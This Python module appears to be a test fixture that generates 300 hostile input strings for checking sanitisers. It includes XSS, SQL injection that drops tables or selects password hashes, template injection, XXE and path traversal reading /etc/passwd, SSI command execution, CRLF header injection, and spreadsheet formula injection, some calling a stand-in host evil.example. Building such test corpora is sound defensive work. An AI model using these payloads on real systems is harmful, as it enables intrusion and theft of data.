"""Three hundred hostile texts: thirty shapes, each in ten wrappings."""

from itertools import product

NUMBER = 300
# Each calls `hit`, which the page doesn't have, asks a foreign host, or would change what a statement or a file says.
SHAPES = (
    "<script>hit()</script>",
    "<img src=x onerror=hit()>",
    "<svg onload=hit()>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<a href=javascript:hit()>x</a>",
    "<details open ontoggle=hit()>x</details>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<input autofocus onfocus=hit()>",
    "<math><mtext><style><img src=x onerror=hit()></style></mtext></math>",
    "[x](javascript:hit())",
    "![x](http://evil.example/x.png)",
    "[x]: data:text/html,<script>hit()</script>",
    "$\\href{javascript:hit()}{x}$",
    "$\\includegraphics{http://evil.example/x.png}$",
    ":material/home: :red[x] **x** `x`",
    "{{constructor.constructor('hit()')()}}",
    "${hit()}",
    "{0.__class__.__mro__} %s%n%x",
    "' or 1=1 --",
    "'; drop table account; --",
    "') union select password_hash from account --",
    "\\'; select pg_sleep(5); --",
    '=HYPERLINK("http://evil.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "../../../../etc/passwd",
    "x\r\nSet-Cookie: fengqiao=x",
    "\u202egnp.exe\u200b\ufeff",
    '<!--#exec cmd="id"-->',
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "javascript:hit()//",
)
WRAPPINGS = ("{}", '">{}', "'>{}", "</textarea>{}", "--> {}", "`{}`", "{}" * 8, "zhang{}", "&#60;{}&#62;", "%3C{}%3E")


def payloads(number: int = NUMBER) -> list[str]:
    """The first `number`, by turns of every shape."""
    return [wrapping.replace("{}", shape) for wrapping, shape in product(WRAPPINGS, SHAPES)][:number]
